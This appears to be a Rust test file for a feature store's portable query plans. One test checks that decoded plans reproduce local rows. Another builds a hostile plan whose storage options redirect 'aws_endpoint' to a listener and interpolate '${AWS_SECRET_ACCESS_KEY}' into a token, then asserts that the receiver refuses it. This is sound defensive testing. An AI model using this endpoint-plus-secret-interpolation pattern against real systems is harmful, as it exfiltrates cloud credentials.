//! Plans that travel: a training set's physical plan with portable scans, encoded with
//! quiver's codec, decoded in a fresh session (no tables, no object stores registered:
//! as in another process), gives the local engine's rows, row for row.

use std::sync::Arc;

use datafusion::physical_plan::ExecutionPlan;
use datafusion::prelude::SessionContext;
use quiver_featurestore::FeatureStore;
use quiver_featurestore::plan::portable;

use crate::common::*;

fn plan_text(plan: &Arc<dyn ExecutionPlan>) -> String {
    datafusion::physical_plan::displayable(plan.as_ref())
        .indent(true)
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_training_set_plan_decoded_elsewhere_gives_the_local_rows() {
    let repo = example_repo().await;
    let store = FeatureStore::open(repo.path()).unwrap();
    store.apply().await.unwrap();
    let e = entities(&[
        (1, T0 - HOUR),
        (1, T0 + DAY),
        (1, T0 + 8 * DAY),
        (1, T0 + 10 * DAY),
        (2, T0 + 3 * DAY),
        (3, T0 + 3 * DAY),
    ]);
    let local = store
        .historical_features()
        .with_entities(vec![e.clone()])
        .with_features("user_txn_stats")
        .unwrap()
        .await
        .unwrap()
        .concat()
        .unwrap();
    let prepared = store
        .historical_features()
        .with_entities(vec![e])
        .with_features("user_txn_stats")
        .unwrap()
        .with_portable_scans(true)
        .prepare()
        .await
        .unwrap();
    let (plan, _) = prepared.physical_plan().await.unwrap();
    let text = plan_text(&plan);
    assert!(text.contains("DeltaFilesExec"), "{text}");
    assert!(!text.contains("DeltaScanExec"), "{text}");
    let bytes = portable::to_bytes(plan).unwrap();
    let elsewhere = SessionContext::new();
    let decoded = portable::from_bytes(&bytes, &elsewhere.task_ctx()).unwrap();
    let batches = datafusion::physical_plan::collect(decoded, elsewhere.task_ctx())
        .await
        .unwrap();
    let remote = arrow::compute::concat_batches(&local.schema(), &batches).unwrap();
    assert_eq!(remote, local, "same rows, same order, same types");
}

/// The child half of the test below: decode the plan in `QUIVER_TEST_PLAN` and run it,
/// in a process whose environment holds a canary secret. Does nothing when run alone.
#[tokio::test]
async fn child_runs_a_received_plan() {
    let Ok(path) = std::env::var("QUIVER_TEST_PLAN") else {
        return;
    };
    let bytes = std::fs::read(path).unwrap();
    let ctx = SessionContext::new();
    let outcome = match portable::from_bytes(&bytes, &ctx.task_ctx()) {
        Ok(plan) => match datafusion::physical_plan::collect(plan, ctx.task_ctx()).await {
            Ok(_) => "ran".to_string(),
            Err(e) => format!("run: {e}"),
        },
        Err(e) => format!("decode: {e}"),
    };
    println!("OUTCOME {outcome}");
}

/// A plan whose scan names an attacker's endpoint and maps a storage option onto the
/// receiver's secret key (`aws_session_token: ${AWS_SECRET_ACCESS_KEY}`), decoded and
/// run by another process with a canary secret in its environment, next to a listener
/// on 127.0.0.1 that records every byte sent to it: refused before any request.
#[test]
fn a_received_plan_cannot_choose_where_the_receivers_secrets_go() {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let table = portable::TableRef {
        url: "s3://victim-bucket/transactions".into(),
        options: vec![
            ("aws_endpoint".into(), format!("http://127.0.0.1:{port}")),
            ("aws_allow_http".into(), "true".into()),
            ("aws_region".into(), "us-east-1".into()),
            ("aws_access_key_id".into(), "AKIAEXAMPLE".into()),
            (
                "aws_secret_access_key".into(),
                "${AWS_SECRET_ACCESS_KEY}".into(),
            ),
            (
                "aws_session_token".into(),
                "${AWS_SECRET_ACCESS_KEY}".into(),
            ),
        ],
        version: 0,
        ..Default::default()
    };
    let schema = Arc::new(arrow::datatypes::Schema::new(vec![
        arrow::datatypes::Field::new("user_id", arrow::datatypes::DataType::Int64, true),
    ]));
    let exec =
        portable::DeltaFilesExec::try_new(table, schema, vec![vec!["part-0.parquet".into()]], None)
            .unwrap();
    let bytes = portable::to_bytes(Arc::new(exec)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("plan.bin");
    std::fs::write(&plan, &bytes).unwrap();
    let canary = "canary-secret-6f1d2c9e8b7a";
    let mut child = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "portable::child_runs_a_received_plan",
            "--nocapture",
        ])
        .env("QUIVER_TEST_PLAN", &plan)
        .env("AWS_SECRET_ACCESS_KEY", canary)
        .env_remove("AWS_SESSION_TOKEN")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Record what reaches the listener until the child exits (60 s at most).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let mut received = Vec::new();
    let status = loop {
        if let Ok((mut s, _)) = listener.accept() {
            s.set_read_timeout(Some(std::time::Duration::from_millis(500)))
                .unwrap();
            let mut buf = [0u8; 8192];
            while let Ok(n) = s.read(&mut buf) {
                if n == 0 {
                    break;
                }
                received.extend_from_slice(&buf[..n]);
            }
        }
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the child never finished"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    assert!(status.success(), "{out}");
    let seen = String::from_utf8_lossy(&received);
    assert!(
        !seen.contains(canary),
        "the listener received the secret:\n{seen}"
    );
    assert!(
        received.is_empty(),
        "a request reached the listener:\n{seen}"
    );
    let outcome = out
        .lines()
        .find_map(|l| l.strip_prefix("OUTCOME "))
        .unwrap_or_else(|| panic!("{out}"));
    assert!(outcome.contains("aws_endpoint"), "{outcome}");
}
